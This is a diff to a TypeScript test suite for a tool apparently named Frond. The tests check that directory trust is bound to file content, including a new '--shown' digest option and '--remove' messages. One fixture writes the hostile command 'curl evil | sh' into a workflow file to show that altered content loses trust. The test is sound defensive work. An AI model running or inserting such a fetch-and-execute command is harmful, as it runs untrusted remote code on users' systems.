@@ -83,7 +83,8 @@ describe("trust is bound to content", () => {
     expect((await frond.run(["trust", "--diff"])).stdout).toBe("Nothing has changed since it was trusted.\n");
     frond.write(own, text("type: Shell, inputs: { command: curl evil | sh }"));
     frond.write(added, "name: added\n");
-    expect((await frond.run(["trust", "--diff"])).stdout).toBe(
+    const { stdout } = await frond.run(["trust", "--diff"]);
+    expect(stdout.replace(/[0-9a-f]{24}\n$/, "DIGEST\n")).toBe(
       [
         `changed ${own}`,
         "  line 2",
@@ -93,6 +94,7 @@ describe("trust is bound to content", () => {
         "  + - { id: a, type: Shell, inputs: { command: curl evil | sh } }",
         `new ${added}`,
         "  + name: added",
+        "To trust exactly this: frond trust --shown DIGEST",
         "",
       ].join("\n"),
     );
@@ -101,6 +103,35 @@ describe("trust is bound to content", () => {
       reply: { trusted: true, new: [added], changed: [own], removed: [] },
     });
     expect((await frond.run(["run", "own"])).code).toBe(2);
+  });
+
+  test("--shown trusts exactly what --diff has shown, and nothing that has come since", async () => {
+    const frond = createFrond({ [own]: saying("own", "shown") });
+    const look = async (): Promise<string[]> => {
+      const { stdout } = await frond.run(["trust", "--diff"]);
+      const command = /To trust exactly this: frond (trust --shown [0-9a-f]{24})\n$/.exec(stdout)?.[1] ?? "";
+      return command.split(" ");
+    };
+    const shown = await look();
+    frond.write(own, saying("own", "swapped"));
+    expect(await refusal(frond, ...shown)).toContain("The files are not those any more that were shown.");
+    expect((await frond.run(["trust", "--list"])).stdout).toBe("No directory is trusted.\n");
+    frond.write(own, saying("own", "shown"));
+    frond.write(added, saying("added", "x"));
+    await refusal(frond, ...shown);
+    expect((await frond.run(await look())).code).toBe(0);
+    expect(await outputsOf(frond, "own")).toEqual({ said: "shown" });
+    const { reply } = await frond.json(["trust", "--diff"]);
+    const { digest } = reply as { digest: string };
+    expect(await frond.json(["trust", "--shown", digest])).toMatchObject({ code: 0, reply: { trusted: true } });
+  });
+
+  test("--remove says whether there was anything to remove", async () => {
+    const frond = createFrond({ [own]: saying("own", "x") });
+    expect((await frond.run(["trust", "--remove"])).stdout).toBe(`It was not trusted: ${frond.directory}\n`);
+    await frond.run(["trust"]);
+    expect((await frond.run(["trust", "--remove"])).stdout).toBe(`No longer trusted: ${frond.directory}\n`);
+    expect(await frond.json(["trust", "--remove"])).toMatchObject({ code: 0, reply: { was_trusted: false } });
   });
 
   test("every kind of file is recorded that Frond runs from there, and no other", async () => {
